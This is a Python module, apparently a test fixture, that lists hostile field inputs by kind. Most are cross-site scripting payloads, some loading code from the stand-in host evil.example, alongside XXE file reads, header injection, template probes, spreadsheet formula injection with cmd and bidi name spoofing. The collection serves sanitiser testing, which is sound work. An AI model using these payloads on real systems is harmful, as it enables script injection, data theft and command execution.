"""
What a hostile person would write into a field: our own wording, by kind.

Each carries `MARK`, by which it is found again in a field or an answer; whatever runs would call `boom`, whatever
loads would ask evil.example.
"""

MARK = "zqx"
BOOM = f"boom('{MARK}')"

CORPUS: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{BOOM}</script>",
        f"<ScRiPt >{BOOM}</sCrIpT\t>",
        f"<script src=//evil.example/{MARK}.js></script>",
        f"<script/x src='https://evil.example/{MARK}.js'>",
        f"<<script>{BOOM}//<</script>",
        f"<scr<script>ipt>{BOOM}</scr</script>ipt>",
        f"<script type=module>import '//evil.example/{MARK}'</script>",
    ),
    "event": (
        f"<img src={MARK} onerror={BOOM}>",
        f"<IMG/SRC='{MARK}'/ONERROR={BOOM}>",
        f"<p onmouseover={BOOM}>over</p>",
        f"<details open ontoggle={BOOM}>",
        f"<input autofocus onfocus={BOOM}>",
        f"<video><source onerror={BOOM}></video>",
        f"<body onload={BOOM}>",
        f"<td\nonclick\n=\n{BOOM}>cell",
    ),
    "svg and math": (
        f"<svg onload={BOOM}>",
        f"<svg><script>{BOOM}</script></svg>",
        f"<svg><a xlink:href='javascript:{BOOM}'><text y=9>x</text></a></svg>",
        f"<svg><animate attributeName=href values=javascript:{BOOM}>",
        f"<svg><foreignObject><p onclick={BOOM}>x</foreignObject></svg>",
        f"<math href='javascript:{BOOM}'>x</math>",
    ),
    "elements": (
        f"<iframe src='//evil.example/{MARK}'></iframe>",
        f'<iframe srcdoc="&lt;script&gt;{BOOM}&lt;/script&gt;">',
        f"<object data='//evil.example/{MARK}'></object>",
        f"<embed src='//evil.example/{MARK}'>",
        f"<base href='//evil.example/{MARK}/'>",
        f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
        f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
        f"<form action=//evil.example/{MARK}><input name=a><button>go</button></form>",
        f"<img src=//evil.example/{MARK}.png>",
        f"<button form=x formaction=//evil.example/{MARK}>go</button>",
    ),
    "address": (
        f'<a href="javascript:{BOOM}">a</a>',
        f'<a href="JaVaScRiPt:{BOOM}">a</a>',
        f'<a href="jav&#x09;ascript:{BOOM}">a</a>',
        f'<a href="&#106;avascript&colon;{BOOM}">a</a>',
        f'<a href="\x01javascript:{BOOM}">a</a>',
        f'<a href="java\u200bscript:{BOOM}">a</a>',
        f"<a href='data:text/html,<b>{MARK}</b>'>a</a>",
        f"<a href='vbscript:MsgBox(\"{MARK}\")'>a</a>",
        f"[{MARK}](javascript:boom)",
        f"javascript:{BOOM}",
    ),
    "mutation": (
        f'<noscript><p title="</noscript><img src={MARK} onerror={BOOM}>">',
        f"<template><script>{BOOM}</script></template>",
        f'<svg></p><style><a id="</style><img src={MARK} onerror={BOOM}>">',
        f"<math><annotation-xml encoding='text/html'><img src={MARK} onerror={BOOM}></annotation-xml></math>",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src={MARK} onerror={BOOM}>">',
        f"<textarea></textarea><img src={MARK} onerror={BOOM}></textarea>",
        f"</title><script>{BOOM}</script>",
        f"<!--><img src={MARK} onerror={BOOM}>-->",
        f"<![CDATA[><script>{BOOM}</script>]]>",
    ),
    "break-out": (
        f'"><script>{BOOM}</script>',
        f"'><script>{BOOM}</script>",
        f'" onmouseover="{BOOM}',
        f"' autofocus onfocus='{BOOM}",
        f"` onclick=`{BOOM}",
        f'{MARK}\\"><img src=x onerror={BOOM}>',
        f'/?a={MARK}"/onclick={BOOM}//',
        f"%22%3E%3Cscript%3E{BOOM}%3C/script%3E",
    ),
    "css": (
        f'<p style="width:expression({BOOM})">x</p>',
        f"<p style='background:url(//evil.example/{MARK})'>x</p>",
        f"<style>@import '//evil.example/{MARK}.css';</style>",
    ),
    "xml": (
        f"{MARK}]]><script>{BOOM}</script>",
        f"<?xml-stylesheet href='//evil.example/{MARK}.xsl'?>",
        f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/{MARK}'>]>&e;",
        f"&{MARK};&lt;script&gt;{BOOM}&lt;/script&gt;",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{BOOM}</x:script>",
    ),
    "json": (
        f"</script><script>{BOOM}</script>",
        f"{MARK}\u2028{BOOM}\u2029",
        f"{MARK}\\u003cscript>",
    ),
    "template": (f"{{{{7*7}}}}{MARK}", f"{{% debug %}}{MARK}", f"${{7*7}}#{{7*7}}{MARK}"),
    "header": (
        f"{MARK}\r\nBcc: all@evil.example",
        f"{MARK}\nSet-Cookie: a=b",
        f"{MARK}\r\n\r\n<script>{BOOM}</script>",
    ),
    "formula": (
        f"=cmd|' /C {MARK}'!A0",
        f"+1+{MARK}",
        f"-1+{MARK}",
        f"@SUM({MARK})",
        f"\t={MARK}",
        f"＝1+{MARK}",
    ),
    "bidi": (f"{MARK}\u202egnp.exe", f"\u2066{MARK}\u2069\u200f"),
}
PAYLOADS = tuple(dict.fromkeys(payload for kind in CORPUS.values() for payload in kind))
